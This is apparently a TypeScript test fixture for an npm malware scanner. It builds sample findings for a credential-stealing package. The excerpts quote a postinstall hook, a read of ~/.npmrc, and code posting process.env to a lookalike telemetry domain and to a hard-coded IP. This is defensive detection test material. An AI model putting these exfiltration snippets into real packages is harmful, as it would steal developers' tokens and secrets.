// Realistic in-memory scan results for the report tests. The hosts and addresses here look public on
// purpose (the IOC filter drops reserved ones); they live only in memory, never in package fixtures.
import type { Finding } from '../../../src/engine/analysis/types';
import { ENGINE_VERSION, type RegistrySummary, type ScanResult } from '../../../src/engine/scan/result';

export const SRI_A = `sha512-${Buffer.alloc(64, 1).toString('base64')}`;
export const SRI_B = `sha512-${Buffer.alloc(64, 2).toString('base64')}`;

export function stealerFindings(): Finding[] {
  return [
    { rule: 'install-script', kind: 'capability', category: 'install', severity: 'low', file: 'package.json', line: 6, message: 'Runs "node lib/setup.js" automatically when the package is installed (postinstall); it starts lib/setup.js.', excerpt: '"postinstall": "node lib/setup.js"' },
    { rule: 'env-exfil', kind: 'threat', category: 'secrets', severity: 'high', file: 'lib/setup.js', line: 14, message: 'Sends the whole environment (process.env, with any tokens in it) to "telemetry-node-cdn.com/collect" (https.request).', excerpt: "https.request({ hostname: 'telemetry-node-cdn.com', path: '/collect', method: 'POST' })", indicators: [{ type: 'url', value: 'https://telemetry-node-cdn.com/collect' }, { type: 'domain', value: 'telemetry-node-cdn.com' }] },
    { rule: 'exfil-raw-ip', kind: 'threat', category: 'exfil', severity: 'high', file: 'lib/setup.js', line: 22, message: 'Posts data to the hard-coded IP address 185.62.57.14.', excerpt: "fetch('http://185.62.57.14:8080/u', { method: 'POST', body })", indicators: [{ type: 'ip', value: '185.62.57.14' }, { type: 'url', value: 'http://185.62.57.14:8080/u' }] },
    { rule: 'credential-file-access', kind: 'threat', category: 'secrets', severity: 'high', file: 'lib/setup.js', line: 9, message: 'Reads ~/.npmrc (npm tokens).', excerpt: "fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')", indicators: [{ type: 'path', value: '~/.npmrc' }] },
    { rule: 'env-access', kind: 'capability', category: 'env', severity: 'low', file: 'lib/setup.js', line: 12, message: 'Reads the whole environment (process.env), including any tokens and keys in it.', excerpt: 'const data = JSON.stringify(process.env);' },
    { rule: 'network-access', kind: 'capability', category: 'network', severity: 'low', file: 'lib/setup.js', line: 14, message: 'Uses the network (https.request).' },
  ];
}

export function registrySummary(versions: string[]): RegistrySummary {
  return { maintainers: ['someone'], distTags: { latest: versions[0]! }, versions: versions.map((version) => ({ version })), versionCount: versions.length, provenance: false };
}

export function scanOf(name: string, version: string, findings: Finding[], extra: Partial<ScanResult> = {}): ScanResult {
  return {
    target: `/home/alice/projects/${name}-${version}.tgz`,
    name,
    version,
    verdict: 'malicious',
    score: 9.5,
    reason: findings[0]?.message ?? '',
    findings,
    files: [],
    skipped: [],
    engineVersion: ENGINE_VERSION,
    ...extra,
  };
}
